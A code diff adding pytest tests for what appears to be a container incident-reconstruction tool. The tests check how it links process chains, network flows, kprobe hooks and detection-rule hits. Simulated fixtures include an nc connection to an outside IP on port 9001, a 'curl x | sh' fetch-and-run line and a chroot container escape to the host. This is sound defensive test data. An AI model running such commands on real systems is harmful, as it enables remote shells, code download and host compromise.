@@ -281,3 +281,57 @@ def test_the_entry_is_on_the_key_commands_line_not_an_earlier_child_of_the_same_
     assert i.key_command is not None and i.key_command.exec_id == "payload"
     assert i.entry is not None and i.entry.exec_id == "inj"
     assert i.chain == ["inj", "payload"]
+
+
+def test_a_tool_delivered_then_run_is_the_key_command_not_its_delivery():
+    """An exec'd ``tar`` writes /tmp/tool (a hand-off), an exec'd /tmp/tool connects out: the key
+    command is the tool (what did the damage), the delivery its entry."""
+    procs = [proc("tar", None, "web-1", "/bin/tar", "xf - -C /tmp", 100 * S, init=False),
+             proc("tool", None, "web-1", "/tmp/tool", "--scan", 160 * S, init=False)]
+    flows = [flow("o1", 161 * S, "tool", ("a", "web-1"), None, 443, dst_ip="203.0.113.5")]
+    kp = [{"event_id": "k1", "kind": "process_kprobe", "time_ns": 100 * S + 5 * MS, "node": "n1", "namespace": "a",
+           "pod": "web-1", "workload": "web", "exec_id": "tar", "function_name": "security_file_permission",
+           "file_path": "/tmp/tool", "daddr": None, "dport": None, "hook_args": '[{"file_arg":{}},{"int_arg":2}]'}]
+    (i,) = find_in(**frames(procs, flows, kp)).incidents
+    assert i.key_command is not None and i.key_command.exec_id == "tool"
+    assert i.entry is not None and i.entry.exec_id == "tar" and i.chain == ["tar", "tool"]
+
+
+def test_a_connection_only_a_connect_hook_saw_is_an_endpoint_though_other_flows_exist():
+    """Hubble saw the shell's lookup, not its ``nc`` out (another node's agent, another path): the
+    connect hook's destination is still an endpoint of the incident."""
+    procs = [proc("sh", "shim", "web-1", "/bin/sh", "", 10 * S, init=False),
+             proc("nc", "sh", "web-1", "/usr/bin/nc", "203.0.113.77 9001", 11 * S, init=False)]
+    flows = [flow("f1", 10 * S + MS, "sh", ("a", "web-1"), ("kube-system", "dns-0"), 53)]
+    kp = [{"event_id": "k1", "kind": "process_kprobe", "time_ns": 11 * S + MS, "node": "n1", "namespace": "a",
+           "pod": "web-1", "workload": "web", "exec_id": "nc", "function_name": "tcp_connect",
+           "file_path": None, "daddr": "203.0.113.77", "dport": 9001, "hook_args": None}]
+    hits = _hits([{"rule_id": "sigma:nc", "title": "Network tool", "level": "high", "exec_id": "nc",
+                   "event_id": "h1", "time_ns": 11 * S, "workload": "web"}])
+    (i,) = find_in(**frames(procs, flows, kp, hits=hits)).incidents
+    assert ("203.0.113.77", 9001) in {(e.ip, e.port) for e in i.endpoints}
+    assert i.key_command is not None and i.key_command.exec_id == "nc"
+
+
+def test_what_ran_suspiciously_on_the_host_after_an_escape_is_reached_from_it():
+    """An exec'd shell chroots to the host (a T1611 detection); cron (running before the capture)
+    later starts a shell whose payload connects out; cron's earlier and routine jobs stay out."""
+    procs = [proc("sh", "shim", "web-1", "/bin/sh", "", 10 * S, init=False),
+             proc("chroot", "sh", "web-1", "/usr/sbin/chroot", "/host /bin/bash", 12 * S, init=False),
+             proc("cron", None, None, "/usr/sbin/cron", "-f", None, seen="parent"),
+             proc("early", "cron", None, "/tmp/.early", "", 5 * S),
+             proc("hsh", "cron", None, "/bin/sh", "-c 'curl x | sh'", 300 * S),
+             proc("pay", "hsh", None, "/tmp/.p", "", 301 * S),
+             proc("rot", "cron", None, "/usr/sbin/logrotate", "/etc/logrotate.conf", 360 * S)]
+    flows = [flow("o1", 302 * S, "pay", (None, None), None, 4444, dst_ip="203.0.113.9")]
+    hits = _hits([{"rule_id": "sigma:chroot", "title": "Container escape tool", "level": "critical",
+                   "techniques": ["T1611"], "exec_id": "chroot", "event_id": "h1", "time_ns": 12 * S,
+                   "workload": "web"},
+                  {"rule_id": "sigma:tmp", "title": "run from /tmp", "level": "high", "exec_id": "pay",
+                   "event_id": "h2", "time_ns": 301 * S}])
+    f = find_in(**frames(procs, flows, hits=hits))
+    (i,) = [x for x in f.incidents if x.pod == "web-1"]
+    host = [r for r in i.reached if r.pod is None and r.node == "n1"]
+    assert host and {"hsh", "pay"} <= set(host[0].exec_ids) and "escape" in host[0].how
+    assert not {"early", "rot", "cron"} & set(host[0].exec_ids)
+    assert i.key_command is not None and i.key_command.exec_id == "pay"
